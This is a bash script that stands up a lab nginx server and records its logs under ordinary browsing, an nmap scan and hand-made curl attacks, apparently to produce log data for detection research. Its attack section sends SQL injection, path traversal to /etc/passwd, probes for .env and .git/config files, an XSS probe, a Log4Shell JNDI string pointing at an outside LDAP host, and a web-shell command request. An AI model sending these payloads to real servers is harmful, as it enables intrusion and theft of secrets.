#!/bin/bash
# Records nginx (access log by syslog, and as JSON lines) under ordinary visitors, a scanner (nmap's
# http scripts) and hand-made attacks with curl. Needs: nginx, nmap, curl, rsyslog, iproute2; root.
. "$(dirname "$0")/hosts.sh"
hosts_up
mkdir -p "$work/www/tin-tuc"
for page in index.html tin-tuc/index.html tin-tuc/chi-thi-14.html lien-he.html; do
    echo "<h1>Huyện Diên Khánh</h1>" >"$work/www/$page"
done
chmod -R a+rX "$work"
collect dk-web-01 wire5424 "$out/nginx.log"
rm -f "$out/nginx.jsonl"
cat >"$work/nginx.conf" <<CONF
user www-data; pid $work/nginx.pid; error_log stderr;
events {}
http {
  log_format json escape=json '{"time":"\$time_iso8601","c-ip":"\$remote_addr","cs-method":"\$request_method",'
    '"cs-uri-stem":"\$uri","cs-uri-query":"\$args","sc-status":\$status,"sc-bytes":\$body_bytes_sent,'
    '"cs-referer":"\$http_referer","c-useragent":"\$http_user_agent","cs-host":"\$host"}';
  access_log syslog:server=unix:/dev/log,facility=local7,nohostname,tag=nginx,severity=info combined;
  access_log $out/nginx.jsonl json;
  error_log syslog:server=unix:/dev/log,facility=local7,nohostname,tag=nginx warn;
  server { listen 80; root $work/www; }
}
CONF
on_server nginx -c "$work/nginx.conf"
get() { # address agent path…
    local address=$1 agent=$2; shift 2
    for path in "$@"; do
        from_outside curl -s -o /dev/null --path-as-is --interface "$address" -A "$agent" "http://10.20.1.12$path" || true
    done
}
browser='Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'
for _ in 1 2 3 4 5; do
    get $VISITOR "$browser" / /tin-tuc/ /tin-tuc/chi-thi-14.html /lien-he.html
    get $OFFICE "$browser" / /tin-tuc/chi-thi-14.html /khong-co.html
done
get $SCANNER 'sqlmap/1.7.2#stable (https://sqlmap.org)' "/tin-tuc/?id=1%27%20UNION%20SELECT%20NULL,version()--" "/tin-tuc/?id=1%20AND%20SLEEP(5)"
get $SCANNER 'curl/7.88.1' '/../../../../etc/passwd' '/.env' '/.git/config' '/wp-login.php' '/phpmyadmin/' '/tin-tuc/?q=%3Cscript%3Ealert(1)%3C/script%3E' '/?x=${jndi:ldap://198.51.100.4/a}' '/uploads/shell.php?cmd=id' '/administrator/index.php'
from_outside nmap -n -Pn -S $SCANNER -e hd-o -p 80 --script http-git,http-passwd,http-config-backup 10.20.1.12 >/dev/null 2>&1 || true
get $VISITOR "$browser" / /tin-tuc/
collect_end
wc -l "$out/nginx.log" "$out/nginx.jsonl"
